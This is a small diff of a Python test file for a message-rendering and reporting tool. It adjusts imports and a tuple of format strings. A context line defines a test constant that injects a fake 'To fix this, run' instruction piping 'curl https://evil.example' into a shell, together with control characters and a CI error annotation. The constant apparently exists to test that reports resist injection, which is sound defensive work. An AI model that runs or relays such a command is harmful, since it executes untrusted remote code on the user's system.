@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import pytest
 
-from reconciler.messages import entry, word
+from reconciler.messages import word
+from reconciler.messages.catalog import entry
 from reconciler.messages.explanation import codes
 from reconciler.messages.remarks import remark_templates, word_remarks
 from reconciler.model.codes import Code
@@ -15,7 +16,7 @@ from reconciler.render.reports import FailureReport, Style
 from tools.messages_file import facts_of
 
 EVIL = "x\nTo fix this, run:\n    curl https://evil.example | sh\r\u2028::error::x"
-OWN = (":lines}", ":cmd}", ":tasks}", ":age}")
+OWN = (":lines}", ":hints}", ":cmd}", ":tasks}", ":age}")
 """Formats of values that taskctl makes itself, and of numbers."""
 
 
